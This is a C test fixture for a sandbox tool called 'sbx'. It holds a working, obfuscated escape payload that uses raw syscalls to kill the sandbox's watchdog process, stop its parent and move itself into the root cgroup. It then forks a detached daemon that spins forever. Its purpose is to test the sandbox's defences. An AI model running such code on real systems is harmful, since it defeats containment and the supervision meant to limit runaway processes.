/*
 * A hostile snippet, for sbx run --allow-syscalls (compiled with gcc -S in
 * tests/22-run-hostile.bats): it tries to outlive sbx. It SIGKILLs every
 * process it can see named sbx-watchdog, and SIGSTOPs its parent (which
 * holds sbx's --timeout where it can reach it); as root it moves itself to
 * the root cgroup (v2, at either of the usual mount points), out of sbx's
 * sbx-PID cgroup; then it forks a daemon in a session of its own, and both
 * spin. One function, no data section, raw system calls.
 */
typedef unsigned long u64;

static inline long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

struct dirent64 {
	u64 ino;
	long off;
	unsigned short reclen;
	unsigned char type;
	char name[];
};

void escape(void)
{
	volatile u64 proc[1], v2[4], v2u[5], watchdog[2];
	char buf[8192], path[64], comm[32];
	long dir, n;

	proc[0] = 0x636f72702fUL;			/* "/proc" */
	watchdog[0] = 0x637461772d786273UL;		/* "sbx-watchdog\n" */
	watchdog[1] = 0xa676f6468UL;
	dir = sys3(2, (long)proc, 0x10000, 0);	/* open(O_DIRECTORY) */
	while (dir >= 0 && (n = sys3(217, dir, (long)buf, sizeof(buf))) > 0) {	/* getdents64 */
		for (long at = 0; at < n; at += ((struct dirent64 *)(buf + at))->reclen) {
			const char *name = ((struct dirent64 *)(buf + at))->name;
			long pid = 0, len = 0, fd, got;

			if (name[0] < '0' || name[0] > '9')
				continue;
			path[len++] = '/', path[len++] = 'p', path[len++] = 'r', path[len++] = 'o';
			path[len++] = 'c', path[len++] = '/';
			for (long i = 0; name[i]; i++) {
				path[len++] = name[i];
				pid = pid * 10 + name[i] - '0';
			}
			path[len++] = '/', path[len++] = 'c', path[len++] = 'o', path[len++] = 'm';
			path[len++] = 'm', path[len++] = 0;
			fd = sys3(2, (long)path, 0, 0);
			if (fd < 0)
				continue;
			got = sys3(0, fd, (long)comm, sizeof(comm));
			sys3(3, fd, 0, 0);
			if (got == 13) {
				const char *w = (const char *)watchdog;
				long same = 1;

				for (long i = 0; i < 13; i++)
					same &= comm[i] == w[i];
				if (same)
					sys3(62, pid, 9, 0);		/* kill(pid, SIGKILL) */
			}
		}
	}
	n = sys3(110, 0, 0, 0);			/* getppid(): 0 outside our namespace */
	if (n > 0)
		sys3(62, n, 19, 0);		/* kill(ppid, SIGSTOP) */
	v2[0] = 0x2f73662f7379732fUL;		/* "/sys/fs/cgroup/cgroup.procs" */
	v2[1] = 0x632f70756f726763UL;
	v2[2] = 0x72702e70756f7267UL;
	v2[3] = 0x73636fUL;
	v2u[0] = 0x2f73662f7379732fUL;		/* "/sys/fs/cgroup/unified/cgroup.procs" */
	v2u[1] = 0x752f70756f726763UL;
	v2u[2] = 0x632f64656966696eUL;
	v2u[3] = 0x72702e70756f7267UL;
	v2u[4] = 0x73636fUL;
	for (int i = 0; i < 2; i++) {
		long fd = sys3(2, i ? (long)v2u : (long)v2, 1, 0);	/* O_WRONLY */

		if (fd >= 0) {
			comm[0] = '0';
			sys3(1, fd, (long)comm, 1);	/* "0": this process */
			sys3(3, fd, 0, 0);
		}
	}
	if (sys3(57, 0, 0, 0) == 0)	/* fork: the daemon */
		sys3(112, 0, 0, 0);	/* setsid */
	for (;;)
		;
}
